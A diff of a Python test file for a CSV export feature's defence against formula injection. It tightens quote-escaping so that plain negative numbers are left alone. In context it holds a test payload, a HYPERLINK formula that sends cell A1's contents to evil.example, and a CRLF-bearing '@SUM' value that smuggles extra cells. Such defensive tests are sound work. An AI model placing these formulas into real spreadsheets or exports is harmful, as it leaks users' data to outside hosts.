@@ -13,6 +13,7 @@ from __future__ import annotations
 import csv
 import io
 import os
+import re
 from datetime import date
 from pathlib import Path
 from typing import Any
@@ -36,8 +37,13 @@ names = st.one_of(
 ).filter(lambda s: "\x00" not in s)
 
 
+PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # left alone on purpose: see csv_cells
+
+
 def expected(name: str) -> str:
-    return "'" + name if name.startswith(FORMULA_STARTS) else name
+    if name.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(name):
+        return "'" + name
+    return name
 
 
 def _campaign_report(name: str) -> dict[str, Any]:
@@ -90,7 +96,7 @@ def test_window_export_of_a_formula_name_is_text(qtbot: Any, tmp_path: Path) -> 
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     crlf = "@SUM(1+1)\r\nx,y"
     model = ConnectionsModel()
-    model.set_connections([data.connection("c1")])
+    model.set_connections([data.parsed("c1")])
 
     def fetch(cid: str, account: Any, since: date, until: date, level: str, cancel: Any) -> Any:
         report = _campaign_report(evil)
